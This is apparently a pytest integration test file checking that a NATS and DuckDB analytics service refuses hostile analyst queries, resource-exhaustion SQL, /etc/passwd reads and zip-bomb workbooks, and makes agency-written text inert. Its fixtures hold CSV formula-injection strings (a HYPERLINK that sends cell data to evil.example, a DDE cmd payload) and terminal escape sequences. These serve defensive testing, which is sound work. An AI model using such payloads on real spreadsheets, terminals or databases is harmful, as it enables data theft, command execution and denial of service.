"""Hostile and careless analysts and agencies, against a real nats-server set up by `outreach auth`
and a real projector: a query that would write the file, build a value of gigabytes or hold every
slot is refused, an agency's flood of status requests holds up no other agency, and what an
agency wrote reaches analysts' spreadsheets and terminals inert. Each test asserts what was
answered or refused, and where memory is the point, the projector's own peak (VmHWM)."""

from __future__ import annotations

import asyncio
import json
import os
import re
import signal
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from nats.aio.client import Client

from consumers.app import run_projector
from consumers.queries import STATUS_WAITING, WRITER_FIRST
from outreach import auth
from runtime.memory import data_bound_mib, resident_bound_mib
from runtime.server import EmbeddedServer
from runtime.settings import Settings
from schemas.files import MAX_CELL_CHARS, MAX_ROWS
from tests.conftest import wait_until
from tests.test_analyst_queries import peak_rss_mib
from tests.test_trust_boundary import (
    _create_stream,
    as_user,
    campaign,
    env_of,
    outreach,
    session,
)

pytestmark = pytest.mark.integration

RUNAWAY = "SELECT count(*) FROM range(1000000) a, range(1000000) b"
# The projector's peak while analysts try to exhaust it: its DuckDB pool (112 MB), what it holds
# besides (about 170 MiB at these sizes), and the margin each query running at once may take beyond
# the pool (README: 256 MiB), here two.
PEAK_BOUND_MIB = 112 + 170 + 2 * 256


@pytest.fixture
def closed(tmp_path: Path) -> Iterator[tuple[EmbeddedServer, Path]]:
    """A server as `outreach auth` sets it up, with a second analyst of their own (jana)."""
    directory = tmp_path / "auth"
    auth.init(directory, ["al-a", "al-b"])
    config = auth.add_analyst(directory, "jana")
    with EmbeddedServer(tmp_path / "nats", port=0, config_file=config) as server:
        asyncio.run(_create_stream(directory, server))
        yield server, directory


class LiveProjector:
    """`outreach project` with the projector's credentials, stopped with SIGTERM. Its log goes to a
    file, not a pipe: a pipe nobody reads while thousands of refusals are logged would fill, and
    every thread that logs would wait on it."""

    def __init__(self, directory: Path, server: EmbeddedServer, db: Path, **env: str) -> None:
        self.db = db
        self.log = db.with_name(db.name + ".stderr")
        with self.log.open("w") as err:
            self.process = subprocess.Popen(
                [sys.executable, "-m", "outreach", "project"],
                env=env_of(directory, "projector", server, OUTREACH_DB=str(db), **env),
                stdout=subprocess.DEVNULL,
                stderr=err,
                text=True,
            )

    def stop(self) -> str:
        self.process.send_signal(signal.SIGTERM)
        self.process.wait(timeout=60)
        err = self.log.read_text()
        assert self.process.returncode == 0, err[-3000:]
        return err


def sql_as(directory: Path, server: EmbeddedServer, db: Path, user: str, query: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "outreach", "sql", "--format", "csv", query],
        env=env_of(directory, user, server, OUTREACH_DB=str(db)),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def ask(directory: Path, server: EmbeddedServer, db: Path, user: str, query: str) -> tuple[int, str, str]:
    process = sql_as(directory, server, db, user, query)
    out, err = process.communicate(timeout=120)
    return process.returncode, out, err


def publish_as(directory: Path, server: EmbeddedServer, agency: str, events: list[dict], path: Path) -> None:
    path.write_text("".join(json.dumps(e) + "\n" for e in events))
    done = outreach("publish", str(path), env=env_of(directory, agency, server))
    assert done.returncode == 0, done.stderr


def applied(directory: Path, server: EmbeddedServer, db: Path) -> int:
    code, out, _ = ask(directory, server, db, "analyst", "SELECT count(*) FROM event_log")
    return int(out.splitlines()[1]) if code == 0 else -1


# ---- queries that write, or build values of gigabytes ----------------------------------------------


async def test_no_query_writes_the_file_or_builds_a_value_past_the_projectors_memory(
    closed: tuple[EmbeddedServer, Path], tmp_path: Path
) -> None:
    server, directory = closed
    db = tmp_path / "p.duckdb"
    publish_as(directory, server, "al-a", [session("al-a", students=n) for n in range(1, 4)], tmp_path / "a.jsonl")
    projector = LiveProjector(directory, server, db)
    try:
        wait_until(lambda: applied(directory, server, db) == 3, 60, "the projector applied the 3 events")
        wal = db.with_name(db.name + ".wal")
        before = (db.stat().st_size, db.stat().st_mtime_ns, wal.stat().st_size)
        for query, name in [
            ("SELECT * FROM checkpoint()", "checkpoint"),
            ("SELECT * FROM force_checkpoint()", "force_checkpoint"),
            ("EXPLAIN ANALYZE SELECT * FROM checkpoint()", "checkpoint"),
            ("SELECT * FROM query('CHECKPOINT')", "query"),
            ("SELECT 1 WHERE 1 IN (SELECT 1 FROM system.main.force_checkpoint())", "force_checkpoint"),
            ("SELECT * FROM truncate_duckdb_logs()", "truncate_duckdb_logs"),
            ("SELECT * FROM read_text('/etc/passwd')", "read_text"),
        ]:
            code, _, err = ask(directory, server, db, "analyst", query)
            assert code == 1, query
            assert err.startswith(f"error: the table function {name}() is refused: files, the network and "), err
        assert (db.stat().st_size, db.stat().st_mtime_ns, wal.stat().st_size) == before
        # The projection's own table macros are table functions too, and are answered.
        code, out, err = ask(directory, server, db, "analyst", "SELECT count(*) FROM facts_as_of(NULL)")
        assert (code, out) == (0, "count_star()\n3\n"), err

        # A value of 1.5 GB, and 2,500 rows of 1 MB, are refused before they are built.
        code, _, err = ask(directory, server, db, "analyst", "SELECT length(repeat('x', 1500000000))")
        assert (code, err.splitlines()[0]) == (
            1,
            "error: repeat() would make a value of more than 65,536 characters, more than one answer holds; "
            "make it smaller",
        )
        code, _, err = ask(directory, server, db, "analyst", "SELECT repeat('x', 1000000) FROM range(2500)")
        assert code == 1 and "repeat() would make a value of more than 65,536 characters" in err
        code, _, err = ask(directory, server, db, "analyst", "SELECT lpad('', 1500000000, 'x')")
        assert code == 1 and "lpad() would make a value of more than 65,536 characters" in err
        code, _, err = ask(directory, server, db, "analyst", "SELECT length(system.main.repeat('x', 1500000000))")
        assert (code, err.splitlines()[0]) == (
            1,
            "error: repeat() is called by its schema's name, which is refused: call it as repeat()",
        )
        # Two at once, of 1.9 GB each in values of 64 KB: refused at their first rows, or by the pool.
        too_large = "error: result too large: its first 256 rows are more than 1,044,480 bytes as JSON"
        out_of_pool = OUT_OF_MEMORY
        for wide, refusal in [
            ("SELECT repeat('x', 65000) AS v FROM range(30000) t(i)", too_large),
            ("SELECT repeat('x', 65000) || i AS v FROM range(30000) t(i)", out_of_pool),
        ]:
            both = [sql_as(directory, server, db, user, wide) for user in ("analyst", "jana")]
            for process in both:
                _, err = process.communicate(timeout=120)
                assert process.returncode == 1
                assert err.startswith(refusal), err
        # The values it may build are built, and the spill to disk is capped.
        code, out, err = ask(
            directory, server, db, "jana", "SELECT length(repeat('ab', 3)), rpad('a', 3, '-'), lpad('1', 2, '0')"
        )
        assert (code, out.splitlines()[1]) == (0, "6,a--,01"), err
        code, out, err = ask(directory, server, db, "jana", "SELECT current_setting('max_temp_directory_size')")
        assert (code, out.splitlines()[1]) == (0, "1.0 GiB"), err
        peak = peak_rss_mib(projector.process.pid)
        assert peak < PEAK_BOUND_MIB, f"the projector peaked at {peak:.0f} MiB"
        assert applied(directory, server, db) == 3  # and it goes on
    finally:
        log = projector.stop()
    assert "Traceback" not in log


# ---- values DuckDB's pool does not count ------------------------------------------------------------

# Values built beside DuckDB's pool, by aggregates and list functions (through the projector, each
# took it to gigabytes: the first to 4.5 GiB, the second to 15 GiB before its time limit).
WIDE = ", ".join(["p"] * 10_000)
BEYOND_THE_POOL = [
    "SELECT length(string_agg(repeat('x', 60000), '')) FROM range(20000)",
    "SELECT len(range(300000000))",
    "SELECT len(generate_series(1, 300000000))",
    "SELECT len(list_resize([1], 300000000))",
    "SELECT len(array_resize([1], 300000000))",
    "SELECT len(list(i)) FROM range(200000000) t(i)",
    "SELECT len(array_agg(repeat('x', 60000))) FROM range(100000)",
    f"SELECT max(length(concat({WIDE}))) FROM (SELECT repeat('x', 65000) || i AS p FROM range(2048) t(i))",
    "WITH RECURSIVE t(n, s) AS (SELECT 1, 'x' UNION ALL SELECT n + 1, s || s FROM t WHERE n < 40) "
    "SELECT max(length(s)) FROM t",
]
POOL_MB = 112  # OUTREACH_MEMORY_LIMIT_MB's default
# Resident memory the data segment does not count: the code of the libraries mapped from their files.
LIBRARIES_MIB = 100
OUT_OF_MEMORY = (
    f"error: the query needs more memory than queries are given here (106.8 MiB of DuckDB's pool, in a process "
    f"limited to {data_bound_mib(POOL_MB):,} MiB); narrow it with WHERE or LIMIT, or use `outreach export`"
)
QUERY_SUBJECT = "outreach.query.OUTREACH"
STOPPED = (
    f"error: the query was stopped: the projector's memory passed {resident_bound_mib(POOL_MB):,} MiB, the most "
    "analysts' queries may take it to; narrow it with WHERE or LIMIT, or use `outreach export`"
)


async def test_values_built_beyond_duckdbs_pool_are_refused_within_the_projectors_bound(
    closed: tuple[EmbeddedServer, Path], tmp_path: Path
) -> None:
    server, directory = closed
    db = tmp_path / "p.duckdb"
    events = [campaign("al-a", "c-1", "Schools of Korçë"), campaign("al-a", "c-2", "Roads of Fier")]
    publish_as(directory, server, "al-a", events + [session("al-a", students=n) for n in (3, 4)], tmp_path / "a.jsonl")
    projector = LiveProjector(directory, server, db)
    try:
        wait_until(lambda: applied(directory, server, db) == 4, 60, "the projector applied the 4 events")
        for query in BEYOND_THE_POOL:
            code, _, err = ask(directory, server, db, "analyst", query)
            assert code == 1, query
            assert err.splitlines()[0] in (OUT_OF_MEMORY, STOPPED), (query, err)
        # 800 MB built in one piece, under the kernel's limit: stopped by the guard, or answered when
        # it is done before the guard looks. DuckDB gives its address space back; the writer finds
        # room beside it (below: a batch of 300 events).
        code, out, err = ask(directory, server, db, "analyst", "SELECT len(range(100000000)) AS n")
        assert (code, out if code == 0 else err.splitlines()[0]) in ((0, "n\n100000000\n"), (1, STOPPED)), err
        # Another analyst is answered, ordinary aggregates and lists included, and the writer goes on.
        code, out, err = ask(directory, server, db, "jana", "SELECT 41 + 1 AS answer")
        assert (code, out) == (0, "answer\n42\n"), err
        code, out, err = ask(
            directory, server, db, "jana",
            "SELECT string_agg(name, ', ' ORDER BY code) AS names FROM counties WHERE code IN ('AL-01', 'AL-06')",
        )  # fmt: skip
        assert (code, out) == (0, 'names\n"Berat, Korçë"\n'), err
        code, out, err = ask(directory, server, db, "jana", "SELECT list(name ORDER BY name) AS names FROM campaigns")
        assert (code, out) == (0, "names\nRoads of Fier;Schools of Korçë\n"), err
        publish_as(directory, server, "al-b", [session("al-b", students=5) for _ in range(300)], tmp_path / "b.jsonl")
        wait_until(lambda: applied(directory, server, db) == 304, 60, "the projector applied 300 more events")
        # A width that would build a value of 1 GB in one piece is refused before it runs.
        for query, name in [
            ("SELECT length(printf('%1000000000d', 1))", "printf"),
            ("SELECT length(format('{:>1000000000}', 'x'))", "format"),
            ("SELECT length(format('{:>{}}', 'x', 1000000000))", "format"),
        ]:
            code, _, err = ask(directory, server, db, "analyst", query)
            assert (code, err.splitlines()[0]) == (
                1,
                f"error: {name}() is refused with a width or precision over 65,536 characters, or one given by an "
                "argument: it would make a value larger than one answer holds",
            )
        code, out, err = ask(directory, server, db, "jana", "SELECT printf('%5.1f|%-3s|', 2.25, 'a') AS p")
        assert (code, out) == (0, "p\n  2.2|a  |\n"), err
        peak = peak_rss_mib(projector.process.pid)
    finally:
        log = projector.stop()
    # The bound holds: the kernel's limit of the data segment, which resident memory cannot pass but
    # for the code of the libraries (LIBRARIES_MIB).
    assert peak < data_bound_mib(POOL_MB) + LIBRARIES_MIB, f"the projector peaked at {peak:.0f} MiB"
    print(f"the projector peaked at {peak:.0f} MiB")
    assert log.count("refused a query (the query") in (len(BEYOND_THE_POOL), len(BEYOND_THE_POOL) + 1), log[-3000:]
    assert "limit raised" not in log
    assert log.count("refused a query (format() is refused") == 2
    assert "Traceback" not in log


def data_segment_mib(pid: int) -> float:
    """A process's data segment now (VmData), in MiB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmData:"):
            return int(line.split()[1]) / 1024
    raise AssertionError(f"no VmData for process {pid}")


# A run of values of varying sizes, each near the limit, with the answer each would have: built in one
# piece (range: 8 bytes an element, 0.5 to 1.3 GB, past the kernel's limit at the largest) or a piece
# at a time (list, string_agg), to leave DuckDB's allocator as much address space, in as many sizes,
# as it could keep.
def _ratchet(i: int) -> tuple[str, int]:
    if i % 6 == 5:
        width, rows = 40_000 + i * 997, 12_000 + i * 311
        return f"SELECT length(string_agg(repeat('x', {width}), '')) AS n FROM range({rows})", width * rows
    n = 90_000_000 + i * 1_234_567 if i % 6 == 2 else 60_000_000 + (i * 7_919_113) % 115_000_000
    return (f"SELECT len(list(i)) AS n FROM range({n}) t(i)" if i % 6 == 2 else f"SELECT len(range({n})) AS n"), n


RATCHET = [_ratchet(i) for i in range(24)]


def _projector_with_two_events(server: EmbeddedServer, directory: Path, db: Path, tmp_path: Path) -> LiveProjector:
    """A live projector on the closed server, once it applied two events of 1 and 2 participants."""
    publish_as(directory, server, "al-a", [session("al-a", students=n) for n in (1, 2)], tmp_path / "a.jsonl")
    projector = LiveProjector(directory, server, db)
    try:
        wait_until(lambda: applied(directory, server, db) == 2, 60, "the projector applied the 2 events")
    except BaseException:
        projector.stop()
        raise
    return projector


async def test_a_run_of_queries_near_the_limit_leaves_the_writer_its_room(
    closed: tuple[EmbeddedServer, Path], tmp_path: Path
) -> None:
    server, directory = closed
    db = tmp_path / "p.duckdb"
    projector = _projector_with_two_events(server, directory, db, tmp_path)
    pid = projector.process.pid
    try:
        resting = data_segment_mib(pid)
        outcomes = {"answered": 0, OUT_OF_MEMORY: 0, STOPPED: 0}
        after: list[float] = []
        for query, n in RATCHET:
            code, out, err = ask(directory, server, db, "analyst", query)
            if code == 0:
                assert out == f"n\n{n}\n", query
                outcomes["answered"] += 1
            else:
                assert code == 1 and err.splitlines()[0] in outcomes, (query, err)
                outcomes[err.splitlines()[0]] += 1
            after.append(data_segment_mib(pid))
        print(f"resting {resting:.0f} MiB, after each query {[round(a) for a in after]}, {list(outcomes.values())}")
        # Each query's address space is given back: the data segment ends each one within 256 MiB
        # of where it rested, and never climbs.
        assert max(after) < resting + 256, (resting, after)
        # Then the writer applies a batch, and another analyst is answered.
        publish_as(directory, server, "al-b", [session("al-b", students=5) for _ in range(300)], tmp_path / "b.jsonl")
        wait_until(lambda: applied(directory, server, db) == 302, 60, "the projector applied 300 more events")
        code, out, err = ask(directory, server, db, "jana", "SELECT sum(participants) AS s FROM actions")
        assert (code, out) == (0, "s\n1503\n"), err
        peak = peak_rss_mib(pid)
    finally:
        log = projector.stop()
    print(f"the projector peaked at {peak:.0f} MiB")
    assert peak < data_bound_mib(POOL_MB) + LIBRARIES_MIB, f"the projector peaked at {peak:.0f} MiB"
    assert log.count("refused a query (the query") == len(RATCHET) - outcomes["answered"], log[-3000:]
    assert "WriteOutOfMemory" not in log and "Traceback" not in log


async def test_a_flood_of_queries_near_the_limit_from_every_slot_holds_up_no_write(
    closed: tuple[EmbeddedServer, Path], tmp_path: Path
) -> None:
    server, directory = closed
    db = tmp_path / "p.duckdb"
    projector = _projector_with_two_events(server, directory, db, tmp_path)
    pid = projector.process.pid
    askers = [await as_user(directory, user, server) for user in ("analyst", "analyst", "jana", "jana")]
    try:
        # Every slot asks, back to back for 20 s, for a value of 0.8 to 1.04 GB built in one piece:
        # two at once pass the kernel's limit, one alone the guard's.
        until = asyncio.get_running_loop().time() + 20
        outcomes: dict[str, int] = {}
        segment: list[float] = []

        async def flood(asker: Client, n: int) -> None:
            while asyncio.get_running_loop().time() < until:
                reply = json.loads((await asker.request(QUERY_SUBJECT, f"SELECT len(range({n}))".encode(), 60)).data)
                first = reply["error"].split(";")[0] if reply.get("error") else "answered"
                outcomes[first] = outcomes.get(first, 0) + 1

        async def watch() -> None:
            while asyncio.get_running_loop().time() < until:
                segment.append(data_segment_mib(pid))
                await asyncio.sleep(0.05)

        async def publish() -> None:
            await asyncio.sleep(2)
            events = [session("al-b", students=5) for _ in range(300)]
            await asyncio.to_thread(publish_as, directory, server, "al-b", events, tmp_path / "b.jsonl")

        sizes = (100_000_000, 110_000_000, 120_000_000, 130_000_000)
        await asyncio.gather(*(flood(a, n) for a, n in zip(askers, sizes, strict=True)), watch(), publish())
        print(f"outcomes {outcomes}; data segment at most {max(segment):.0f} MiB while they ran")
        refusals = {text.removeprefix("error: ").split(";")[0] for text in (OUT_OF_MEMORY, STOPPED, WRITER_FIRST)}
        assert set(outcomes) <= {"answered", *refusals}, outcomes
        wait_until(lambda: applied(directory, server, db) == 302, 60, "the projector applied the 300 events")
        code, out, err = ask(directory, server, db, "jana", "SELECT sum(participants) AS s FROM actions")
        assert (code, out) == (0, "s\n1503\n"), err
        peak = peak_rss_mib(pid)
    finally:
        for asker in askers:
            await asker.close()
        log = projector.stop()
    print(f"the projector peaked at {peak:.0f} MiB")
    assert peak < data_bound_mib(POOL_MB) + LIBRARIES_MIB, f"the projector peaked at {peak:.0f} MiB"
    print(f"{log.count('ran out of memory')} write(s) retried for want of memory")
    assert "Traceback" not in log


# ---- shares: one analyst, one agency, cannot take every slot ---------------------------------------


async def test_one_analysts_runaway_queries_leave_slots_for_another(
    closed: tuple[EmbeddedServer, Path], tmp_path: Path
) -> None:
    server, directory = closed
    db = tmp_path / "p.duckdb"
    publish_as(directory, server, "al-a", [session("al-a")], tmp_path / "a.jsonl")
    projector = LiveProjector(directory, server, db, OUTREACH_QUERY_SLOTS="4", OUTREACH_QUERY_TIMEOUT_S="15")
    try:
        wait_until(lambda: applied(directory, server, db) == 1, 60, "the projector applied the event")
        runaways = [sql_as(directory, server, db, "analyst", RUNAWAY) for _ in range(4)]
        # Two run; the other two wait for a slot of their asker's, and are refused.
        wait_until(lambda: sum(r.poll() is not None for r in runaways) == 2, 60, "two runaways refused")
        # Another analyst is answered while the first one's two still run.
        code, out, err = ask(directory, server, db, "jana", "SELECT 41 + 1 AS answer")
        assert (code, out) == (0, "answer\n42\n"), err
        assert sum(r.poll() is None for r in runaways) == 2
        errors = []
        for runaway in runaways:
            _, err = runaway.communicate(timeout=60)
            assert runaway.returncode == 1
            errors.append(err.splitlines()[0])
        assert sorted(errors) == [
            "error: the query ran longer than 15 s and was stopped",
            "error: the query ran longer than 15 s and was stopped",
            "error: you have 2 queries running already, as many as one asker runs at once (of 4 in all), and none "
            "ended within 2 s; ask again once one has",
            "error: you have 2 queries running already, as many as one asker runs at once (of 4 in all), and none "
            "ended within 2 s; ask again once one has",
        ]
    finally:
        log = projector.stop()
    assert log.count("refused a query from ANALYSTS/analyst: you have 2 queries running already") == 2
    assert "Traceback" not in log


async def test_one_agencys_flood_of_status_requests_holds_up_no_other_agency(
    closed: tuple[EmbeddedServer, Path], tmp_path: Path
) -> None:
    server, directory = closed
    db = tmp_path / "p.duckdb"
    b_event = session("al-b", students=30)
    publish_as(directory, server, "al-a", [session("al-a", students=n) for n in range(1, 51)], tmp_path / "a.jsonl")
    publish_as(directory, server, "al-b", [b_event], tmp_path / "b.jsonl")
    projector = LiveProjector(directory, server, db)
    a = await as_user(directory, "al-a", server)
    b = await as_user(directory, "al-b", server)
    try:
        wait_until(lambda: applied(directory, server, db) == 51, 60, "the projector applied the 51 events")
        order: list[str] = []
        a_answers: list[dict] = []

        async def on_a(msg: object) -> None:
            a_answers.append(json.loads(msg.data))  # type: ignore[attr-defined]
            order.append("a" if a_answers[-1]["error"] is None else "a refused")

        async def on_b(msg: object) -> None:
            order.append(json.dumps(json.loads(msg.data)["receipts"][0]["event_id"]))  # type: ignore[attr-defined]

        a_inbox, b_inbox = a.new_inbox(), b.new_inbox()
        await a.subscribe(a_inbox, cb=on_a)
        await b.subscribe(b_inbox, cb=on_b)
        await b.flush()
        for _ in range(200):  # every receipt of the agency, each time
            await a.publish("outreach.status.al-a", b'{"limit": 200}', reply=a_inbox)
        await a.flush()
        await b.publish("outreach.status.al-b", b"{}", reply=b_inbox)
        await b.flush()
        await asyncio.wait_for(_until(lambda: len(order) == 201), 60)

        answered = [x for x in a_answers if x["error"] is None]
        refused = [x for x in a_answers if x["error"] is not None]
        assert all(len(x["receipts"]) == 50 for x in answered)
        assert len(answered) + len(refused) == 200 and refused
        # One of A's runs, or none while B's does (the broker keeps no order between two connections).
        assert {x["error"] for x in refused} <= {
            f"you have {running} status requests running and {STATUS_WAITING} waiting, as many as one asker may; "
            "wait for their answers, then ask again"
            for running in (0, 1)
        }
        # B's one request came after A's 200, and was answered before what A still had waiting.
        b_at = order.index(json.dumps(b_event["event_id"]))
        assert [x for x in order[b_at + 1 :] if x == "a"], order
    finally:
        await a.close()
        await b.close()
        log = projector.stop()
    assert "Traceback" not in log


async def _until(condition: object) -> None:
    while not condition():  # type: ignore[operator]
        await asyncio.sleep(0.01)


# ---- what reaches spreadsheets and terminals is inert ----------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PIPE = "+cmd|' /C calc'!A0"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\ALL TOTALS VERIFIED OK\x1b]8;;\x1b\\"


async def test_what_agencies_wrote_reaches_spreadsheets_and_terminals_inert(
    nc: Client, settings: Settings, tmp_path: Path
) -> None:
    from producers.publisher import Publisher
    from runtime.stream import ensure_stream
    from schemas.parse import parse_event

    js = nc.jetstream()
    await ensure_stream(js, settings.stream, settings.duplicate_window_s)
    events = [
        campaign("al-a", "c-formula", FORMULA) | {"funder": PIPE},
        campaign("al-a", "c-escapes", ESCAPES) | {"funder": "-2+3"},
        campaign("al-a", "c-plain", "Plain name") | {"funder": "@SUM(1+1)"},
    ]
    report = await Publisher(js).publish(parse_event(json.dumps(e).encode()) for e in events)
    assert report.stored == 3
    await run_projector(settings, until_caught_up=True)
    env = {k: v for k, v in os.environ.items() if not k.startswith("OUTREACH_")} | {"OUTREACH_DB": str(settings.db)}

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "outreach", *args], env=env, capture_output=True, text=True)

    note = (
        "note: cells that begin with =, +, -, @, a tab or a carriage return are written with a leading ' so that "
        "a spreadsheet shows them as text instead of running them\n"
    )
    query = "SELECT campaign_id, name, funder, -7 AS n FROM campaigns ORDER BY campaign_id"
    done = run("sql", "--format", "csv", query)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[1:] == [
        "c-escapes," + ESCAPES + ",'-2+3,-7",  # to a file or a pipe: raw, but for the leading quote
        'c-formula,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",\'+cmd|\' /C calc\'!A0,-7',
        "c-plain,Plain name,'@SUM(1+1),-7",
    ]
    assert done.stderr.splitlines()[0] == "note: 4 cell(s): " + note[len("note: ") :].rstrip("\n")
    done = run("sql", query)  # the table: control characters escaped, no quote needed
    assert done.returncode == 0, done.stderr
    assert re.split(r"\s{2,}", done.stdout.splitlines()[2])[0:2] == [
        "c-escapes",
        "\\x1b[2J\\x1b]0;owned\\x07\\x1b]8;;http://evil.example\\x1b\\ALL TOTALS VERIFIED OK\\x1b]8;;\\x1b\\",
    ]
    assert "\x1b" not in done.stdout and "\x07" not in done.stdout

    for args, header_rows in ((["--format", "csv", "--excel"], 1), (["--format", "hxl"], 2)):
        out = tmp_path / f"campaigns-{args[1]}.csv"
        done = run("export", "--view", "campaigns", "--out", str(out), *args)
        assert done.returncode == 0, done.stderr
        assert done.stderr.startswith(note)
        assert re.fullmatch(AS_OF_CAMPAIGNS, done.stderr[len(note) :]), done.stderr
        with out.open(encoding="utf-8-sig", newline="") as f:
            import csv

            rows = list(csv.DictReader(f))[header_rows - 1 :]
        by_id = {r["campaign_id"]: r for r in rows}
        assert by_id["c-formula"]["name"] == "'" + FORMULA
        assert by_id["c-formula"]["funder"] == "'" + PIPE
        assert by_id["c-escapes"]["funder"] == "'-2+3"
        assert by_id["c-plain"]["funder"] == "'@SUM(1+1)"
        assert by_id["c-plain"]["name"] == "Plain name"
    # A plain CSV, for data tools, holds the text as it is.
    out = tmp_path / "raw.csv"
    assert re.fullmatch(AS_OF_CAMPAIGNS, run("export", "--view", "campaigns", "--out", str(out)).stderr)
    assert FORMULA.replace('"', '""') in out.read_text("utf-8")


# What every export says on standard error: what it is as of (here the third and last event).
AS_OF_CAMPAIGNS = r"note: campaigns: figures as received by [0-9-]{10} [0-9:]{8} UTC \(stream OUTREACH, sequence 3\)\n"


async def test_negative_numbers_stay_numbers_in_every_spreadsheet_output(tmp_path: Path) -> None:
    """A corrected count goes down: its change is a negative number, and stays one."""
    import duckdb

    from projections.exports import export_view

    db = tmp_path / "n.duckdb"
    con = duckdb.connect(str(db))
    con.execute("CREATE VIEW corrections AS SELECT -3 AS participants_change, '-3' AS reason, 2.5 AS x")
    con.close()
    out = tmp_path / "c.csv"
    export_view(db, "corrections", "hxl", out)
    assert out.read_text("utf-8").splitlines()[2] == "-3,'-3,2.5"
    export_view(db, "corrections", "csv", out, excel=True)
    assert out.read_text("utf-8-sig").splitlines()[1] == "-3,'-3,2.5"


# ---- files of events read within limits ------------------------------------------------------------


def _validate_peak(path: Path) -> tuple[str, float]:
    """`load_events` in a process of its own: the problem it reports, and its peak memory in MiB."""
    code = (
        "import sys\nfrom schemas.files import load_events\nfrom schemas.errors import FileInvalid\n"
        f"try:\n    load_events({str(path)!r}); print('read')\nexcept FileInvalid as e: print(e.problems[0])\n"
        "print([l for l in open('/proc/self/status') if l.startswith('VmHWM')][0].split()[1])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    problem, peak = done.stdout.splitlines()
    return problem, int(peak) / 1024


def test_workbooks_and_csvs_past_the_limits_are_refused_early_in_bounded_memory(tmp_path: Path) -> None:
    # A 200 MB shared string, zipped small.
    book = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/sharedStrings.xml", "w") as part:
            part.write(b"<sst><si><t>")
            for _ in range(200):
                part.write(b"x" * 1_000_000)
            part.write(b"</t></si></sst>")
    assert book.stat().st_size < 400_000
    problem, peak = _validate_peak(book)
    assert problem == (
        "(file): unpacks xl/sharedStrings.xml to 200,000,027 bytes, over the 33,554,432 a workbook may; "
        "split it into smaller files"
    )
    assert peak < 100, peak

    rows = tmp_path / "many.csv"
    header = "event_type,agency,county,occurred,format,participants.students\n"
    rows.write_text(header + "session_held,al-a,AL-06,2024-01-01,workshop,3\n" * (MAX_ROWS + 1))
    problem, peak = _validate_peak(rows)
    assert (
        problem
        == f"(file): has more than {MAX_ROWS:,} rows, the most one file or sheet may hold; split it into smaller files"
    )

    wide = tmp_path / "wide.csv"
    wide.write_text(header + "session_held,al-a,AL-06,2024-01-01," + "w" * (MAX_CELL_CHARS + 1) + ",3\n")
    problem, _ = _validate_peak(wide)
    assert problem.startswith("(file): line 2: field larger than field limit (65536)"), problem

    wide_book = tmp_path / "wide.xlsx"
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "session_held"
    ws.append(["agency", "venue"])
    ws.append(["al-a", "v" * 100])
    wb.save(tmp_path / "made.xlsx")
    # Excel, and openpyxl, write at most 32,767 characters a cell; a hostile workbook holds more.
    with zipfile.ZipFile(tmp_path / "made.xlsx") as made, zipfile.ZipFile(wide_book, "w") as z:
        for part in made.infolist():
            data = made.read(part)
            z.writestr(part, data.replace(b"v" * 100, b"v" * (MAX_CELL_CHARS + 1)))
    problem, _ = _validate_peak(wide_book)
    assert problem == (
        f"(file): sheet session_held, row 2: a cell of {MAX_CELL_CHARS + 1:,} characters, over {MAX_CELL_CHARS:,}"
    )
    # A sheet whose size, as Excel writes it, is past the limit is refused before a row is read.
    tall_book = tmp_path / "tall.xlsx"
    with zipfile.ZipFile(tmp_path / "made.xlsx") as made, zipfile.ZipFile(tall_book, "w") as z:
        for part in made.infolist():
            data = made.read(part)
            z.writestr(part, data.replace(b'<dimension ref="A1:B2"', f'<dimension ref="A1:B{MAX_ROWS + 2}"'.encode()))
    problem, _ = _validate_peak(tall_book)
    assert problem == (
        f"(file): sheet session_held has 100,001 rows, more than {MAX_ROWS:,}; split it into smaller files"
    )


def test_sql_output_escapes_control_characters_on_a_terminal_and_keeps_json_valid() -> None:
    import io

    from outreach.cli import write_result

    rows = [(ESCAPES + "\n\u202eevil", -2, "-2")]
    out = io.StringIO()
    assert write_result(["name", "n", "t"], rows, "csv", out, terminal=True) == 1
    assert out.getvalue() == (
        "name,n,t\n"
        "\\x1b[2J\\x1b]0;owned\\x07\\x1b]8;;http://evil.example\\x1b\\ALL TOTALS VERIFIED OK\\x1b]8;;\\x1b\\\\n"
        "\\u202eevil,-2,'-2\n"
    )
    out = io.StringIO()
    write_result(["name", "n", "t"], rows, "json", out)
    assert "\x1b" not in out.getvalue() and "\u202e" not in out.getvalue()
    assert json.loads(out.getvalue()) == [{"name": ESCAPES + "\n\u202eevil", "n": -2, "t": "-2"}]
